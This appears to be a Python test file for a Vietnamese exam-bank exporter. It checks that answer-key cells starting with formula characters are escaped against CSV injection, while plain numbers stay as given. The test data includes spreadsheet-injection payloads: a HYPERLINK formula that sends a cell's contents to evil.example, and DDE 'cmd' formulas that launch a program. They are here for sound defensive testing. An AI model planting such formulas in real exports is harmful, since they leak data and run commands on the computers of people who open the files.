"""CSV/spreadsheet injection (OWASP): text that a spreadsheet would run as a formula is escaped with a
leading single quote wherever a user could re-save it as CSV; plain numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from exporters.cells import formula_safe, write_csv
from exporters.xlsx.keys import render_keys
from qbank.domain.enums import QuestionType
from qbank.domain.exam import ExamHeader, ExamPaper, KeyEntry, PaperPart, Version

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "-x+1"]
NUMBERS = ["-2", "-47,5", "+5", "-0.25", "12", "3,14"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_with_a_formula_character_gets_a_single_quote(text: str) -> None:
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize("text", [*NUMBERS, "A", "ĐSĐS", "Δ = 1", "", "x = -2", "'already quoted"])
def test_numbers_and_ordinary_text_are_left_as_they_are(text: str) -> None:
    assert formula_safe(text) == text


def test_csv_output_is_quoted_and_escaped() -> None:
    buf = io.StringIO()
    write_csv(buf, [["Câu", "Đáp án"], [1, "=1+2"], [2, "-47,5"], [3, 'say "hi"']])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["Câu", "Đáp án"], ["1", "'=1+2"], ["2", "-47,5"], ["3", 'say "hi"']]
    assert buf.getvalue().splitlines()[1] == '"1","\'=1+2"'


def _paper(answers: list[str]) -> ExamPaper:
    key = [KeyEntry("III", i, f"q{i}", QuestionType.SHORT_ANSWER, a, 0.5) for i, a in enumerate(answers, start=1)]
    return ExamPaper(ExamHeader(), [PaperPart("III", "PHẦN III", type=QuestionType.SHORT_ANSWER)], [Version("101", {}, key)], name="thu")


def test_answer_keys_resaved_as_csv_hold_no_live_formula() -> None:
    answers = HOSTILE + NUMBERS
    wb = load_workbook(io.BytesIO(render_keys(_paper(answers))))
    for ws in wb.worksheets:
        # What "Save as CSV" writes: each cell's value as typed.
        for row in ws.iter_rows(values_only=True):
            for value in row:
                text = "" if value is None else str(value)
                if text.startswith(TRIGGERS):
                    assert text.lstrip("+-").replace(",", "").replace(".", "").isdigit(), f"live formula after a CSV re-save: {text!r}"
    written = [c.value for c in wb["Mã 101"]["D"]][1:]
    assert written[len(HOSTILE):] == NUMBERS  # the short answers a teacher reads stay exactly as given
    assert written[: len(HOSTILE)] == ["'" + h for h in HOSTILE]
